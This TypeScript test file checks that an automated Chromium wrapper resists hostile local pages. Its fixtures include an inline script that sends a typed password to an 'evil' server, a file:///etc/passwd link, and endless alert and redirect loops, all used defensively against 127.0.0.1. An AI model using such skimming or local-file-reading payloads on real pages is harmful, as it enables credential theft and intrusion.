import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserAction, BrowserVisit, BrowserVisited } from '../../core/browser-port.ts';
import { chromiumBrowser } from './chromium.ts';
import { findChromium } from './find-chromium.ts';

const HAS_BROWSER = findChromium() !== undefined;

const html =
  (body: string): RequestListener =>
  (_request, response) => {
    response.setHeader('content-type', 'text/html; charset=utf-8');
    response.end(`<!doctype html><title>Page</title><body>${body}`);
  };

const SECRET = 'a-long-password';

const action = (change: Partial<BrowserAction>): BrowserAction => ({
  fill: [],
  choose: [],
  check: [],
  uncheck: [],
  optional: false,
  timeoutMs: 1_500,
  ...change,
});

const filling = (selector: string) => ({ selector, value: SECRET, isSecret: true });

describe.skipIf(!HAS_BROWSER)(
  `a browser among hostile pages${HAS_BROWSER ? '' : ' (skipped: no Chromium on the path)'}`,
  () => {
    let browser: ReturnType<typeof chromiumBrowser>;
    const servers: Server[] = [];
    let sessions = 0;

    beforeAll(() => {
      browser = chromiumBrowser({ allowPrivateAddresses: true });
    });
    afterAll(() => browser.close());
    afterEach(async () => {
      for (const server of servers.splice(0)) {
        server.closeAllConnections();
        await new Promise((resolve) => server.close(resolve));
      }
    });

    const serve = async (listener: RequestListener): Promise<string> => {
      const server = createServer(listener);
      servers.push(server);
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    };

    const visit = (
      start: string,
      actions: readonly BrowserAction[] = [],
      change: Partial<BrowserVisit> = {},
    ): Promise<BrowserVisited> => {
      sessions += 1;
      return browser.visit({
        session: `s${sessions}`,
        goesOn: false,
        start,
        redirectUri: 'http://127.0.0.1:4600/callback',
        actions,
        trusted: new Set([new URL(start).origin]),
        pictures: true,
        ...change,
      });
    };

    const back = 'http://127.0.0.1:4600/callback?code=c&state=s';
    const RETURNED = {
      kind: 'redirected',
      parameters: [
        ['code', 'c'],
        ['state', 's'],
      ],
    };

    it('takes a redirect to the app, never loading it, and keeps each hop', async () => {
      let loaded = 0;
      const app = await serve((_request, response) => {
        loaded += 1;
        response.end();
      });
      const url = await serve((request, response) => {
        const location = request.url === '/' ? '/hop' : `${app}/callback?code=c&state=s`;
        response.writeHead(302, { location, 'set-cookie': 'sid=1' }).end();
      });
      const seen = await visit(`${url}/`, [], { redirectUri: `${app}/callback` });
      expect(seen.end).toEqual(RETURNED);
      expect(loaded).toBe(0);
      expect(seen.pages.map(({ status, url: at }) => [status, new URL(at).pathname])).toEqual([
        [302, '/'],
        [302, '/hop'],
      ]);
      expect(seen.pages[0]?.headers.some(([name]) => name === 'set-cookie')).toBe(true);
    });

    it('takes what comes by form_post, and what a window of its own is sent', async () => {
      const posting = await serve(
        html(
          '<form method="post" action="http://127.0.0.1:4600/callback"><input name="code" value="c"><input name="state" value="s"></form><script>document.forms[0].submit()</script>',
        ),
      );
      expect((await visit(posting)).end).toEqual(RETURNED);
      const popping = await serve((request, response) => {
        if (request.url === '/launch') response.writeHead(302, { location: back }).end();
        else html('<button onclick="window.open(\'/launch\')">Open</button>')(request, response);
      });
      expect((await visit(popping, [action({ click: 'button' })])).end).toEqual(RETURNED);
    });

    it('shares no cookie between sessions', async () => {
      const cookies: (string | undefined)[] = [];
      const url = await serve((request, response) => {
        if (request.url !== '/') return void response.end();
        cookies.push(request.headers.cookie);
        response.writeHead(302, { location: back, 'set-cookie': 'sid=1' }).end();
      });
      await visit(`${url}/`);
      await visit(`${url}/`);
      expect(cookies).toEqual([undefined, undefined]);
    });

    it('fills nothing in at a page of a stranger', async () => {
      const evil = await serve(html('<input id="p" type="password"><button>Go</button>'));
      const seen = await visit(evil, [action({ fill: [filling('#p')], click: 'button' })], {
        trusted: new Set(['https://ehr.example.org']),
      });
      expect(seen.end).toMatchObject({ kind: 'blocked' });
      expect(seen.end.kind === 'blocked' && seen.end.why).toContain('nothing was filled in');
    });

    it('sends nothing that was filled in to a stranger', async () => {
      const stolen: string[] = [];
      const evil = await serve((request, response) => {
        stolen.push(request.url ?? '');
        request.on('data', (chunk) => stolen.push(String(chunk)));
        response.end();
      });
      const url = await serve(
        html(
          `<input id="p" type="password" oninput="fetch('${evil}/?p=' + encodeURIComponent(this.value), { mode: 'no-cors' })"><form method="post" action="${evil}/post"><button>Go</button></form>`,
        ),
      );
      const seen = await visit(url, [action({ fill: [filling('#p')], click: 'button' })]);
      expect(seen.end).toMatchObject({ kind: 'blocked' });
      expect(stolen.join('')).not.toContain(SECRET);
    });

    it('shows no secret in a picture or a text', async () => {
      const url = await serve(
        html('<input id="p" type="password"><p id="echo">You typed </p><button>Go</button>'),
      );
      const plain = await visit(url, [
        action({ fill: [filling('#p')], screenshot: 'filled' }),
        action({ click: '#nowhere' }),
      ]);
      expect(plain.pictures.map(({ name }) => name)).toEqual(['filled', 'end']);
      const echoing = await serve(
        html(
          '<input id="p" type="password" oninput="echo.append(this.value)"><p id="echo">You typed </p>',
        ),
      );
      const seen = await visit(echoing, [
        action({ fill: [filling('#p')], screenshot: 'filled' }),
        action({ click: '#nowhere' }),
      ]);
      expect(seen.pictures).toEqual([]);
      expect(JSON.stringify([seen.end, seen.looks])).not.toContain(SECRET);
      expect(seen.end.kind === 'stranded' && seen.end.text).toContain('You typed [secret]');
    });

    it('does all that a step can say', async () => {
      const url = await serve(
        html(
          `<select id="who"><option>Choose<option value="2">Mila</select><input type="radio" name="r" id="r1"><input type="checkbox" class="box" checked><input type="checkbox" class="box"><div role="checkbox" id="drawn" aria-checked="false" onclick="this.setAttribute('aria-checked','true')">All</div><button onclick="location.href='${back}&was=' + [who.value, r1.checked, document.querySelectorAll('.box:checked').length, drawn.getAttribute('aria-checked')]">Go</button>`,
        ),
      );
      const seen = await visit(url, [
        action({
          waitFor: '#who',
          expectText: 'Choose',
          choose: [['#who', 'Mila']],
          check: ['#r1', '#drawn'],
          uncheck: ['.box'],
          click: 'button',
        }),
      ]);
      expect(seen.end).toMatchObject({
        parameters: [
          ['code', 'c'],
          ['state', 's'],
          ['was', '2,true,0,true'],
        ],
      });
    });

    it.each([
      [
        'an endless redirect by script',
        '<script>location.href = "/?" + Math.random()</script>',
        40,
      ],
      ['a loop of dialogs', '<script>for (;;) alert("again")</script>', 0],
      ['a page that reloads itself', '<meta http-equiv="refresh" content="0">', 40],
    ])('%s ends', { timeout: 60_000 }, async (_case, body) => {
      const seen = await visit(await serve(html(body)), [
        action({ click: '#never', timeoutMs: 30_000 }),
      ]);
      expect(seen.end.kind).toBe('blocked');
    });

    it('a page that never comes, and one that is not there, are no answers', async () => {
      const silent = await serve(() => {});
      const seen = await visit(silent, [action({ click: '#never' })]);
      expect(seen.end).toMatchObject({ kind: 'failed' });
      const gone = await visit('http://127.0.0.1:1/', [action({ click: '#never' })]);
      expect(gone.end).toMatchObject({ kind: 'failed' });
    });

    it('a huge page is looked at in part', { timeout: 60_000 }, async () => {
      const huge = await serve(html(`<p>${'word '.repeat(400_000)}</p>`));
      const seen = await visit(huge, [action({ click: '#never' })]);
      expect(seen.end).toMatchObject({ kind: 'stranded', status: 200 });
      expect(JSON.stringify(seen.looks).length).toBeLessThan(20_000);
    });

    it('windows without end are closed', async () => {
      const popping = await serve(
        html('<script>for (let i = 0; i < 12; i += 1) window.open("/?" + i)</script><p>Hi</p>'),
      );
      const seen = await visit(popping, [action({ click: '#never' })]);
      expect(['stranded', 'blocked']).toContain(seen.end.kind);
    });

    it('files and scripts as addresses lead nowhere', async () => {
      const url = await serve(
        html(
          '<a id="f" href="file:///etc/passwd">file</a><a id="j" href="javascript:void(document.title=\'run\')">script</a>',
        ),
      );
      const seen = await visit(url, [
        action({ click: '#f' }),
        action({ click: '#j' }),
        action({ click: '#never' }),
      ]);
      expect(seen.end).toMatchObject({ kind: 'stranded' });
      expect(seen.end.kind === 'stranded' && seen.end.url).not.toContain('file:');
      expect(JSON.stringify(seen)).not.toContain('root:');
    });

    it.each([
      ['nothing', '#none', 'does not fit this page'],
      ['no selector at all', '<<<', 'does not fit this page'],
    ])('a selector that matches %s is told', async (_case, selector, why) => {
      const url = await serve(html('<button id="go">Go</button>'));
      const seen = await visit(url, [action({ click: selector })]);
      expect(seen.end.kind === 'stranded' && seen.end.why).toContain(why);
      expect(seen.looks.at(-1)).toMatchObject({
        step: 1,
        done: false,
        selectors: [{ selector, matches: 0 }],
        candidates: [{ selector: '#go', what: 'button "Go"' }],
      });
    });

    it('of many that match, the first that is seen is taken', async () => {
      const url = await serve(
        html(
          `<a class="b" style="display:none" href="/hidden">x</a><a class="b" href="${back}">y</a><a class="b" href="/other">z</a>`,
        ),
      );
      const seen = await visit(url, [action({ click: '.b' })]);
      expect(seen.end).toEqual(RETURNED);
      expect(seen.looks[0]?.selectors).toEqual([{ selector: '.b', matches: 3 }]);
    });

    it('an error page ends the way at once', async () => {
      const url = await serve((_request, response) => {
        response.writeHead(400, { 'content-type': 'text/html' }).end('<h1>No</h1>');
      });
      const begun = Date.now();
      const seen = await visit(url, [action({ click: '#never', timeoutMs: 20_000 })]);
      expect(seen.end).toMatchObject({ kind: 'stranded', status: 400, text: 'No' });
      expect(Date.now() - begun).toBeLessThan(8_000);
    });

    it('stops when the run is stopped', async () => {
      const stop = new AbortController();
      const silent = await serve(() => {});
      setTimeout(() => stop.abort(), 200);
      const seen = await browser.visit(
        {
          session: 'stopped',
          goesOn: false,
          start: silent,
          redirectUri: back,
          actions: [],
          trusted: new Set(),
          pictures: false,
        },
        stop.signal,
      );
      expect(seen.end).toEqual({ kind: 'aborted' });
    });

    it('dials no private address unless it is allowed', { timeout: 60_000 }, async () => {
      const strict = chromiumBrowser({ allowPrivateAddresses: false });
      try {
        const url = await serve(html('inside'));
        const seen = await strict.visit({
          session: 'strict',
          goesOn: false,
          start: url,
          redirectUri: back,
          actions: [],
          trusted: new Set(),
          pictures: false,
        });
        expect(seen.end).toMatchObject({ kind: 'failed' });
        expect(seen.end.kind === 'failed' && seen.end.why).toContain('is not a public address');
      } finally {
        await strict.close();
      }
    });
  },
);

describe('the browser of this machine', () => {
  it.each([
    ['none on an empty path', { PATH: '' }],
    ['none where the one named is not there', { PATH: '/usr/bin', ASSAY_CHROMIUM: '/no/such' }],
  ])('%s', (_case, env) => {
    expect(findChromium(env)).toBeUndefined();
  });

  it('is the one named', () => {
    expect(findChromium({ CHROME_PATH: process.execPath })).toBe(process.execPath);
  });
});
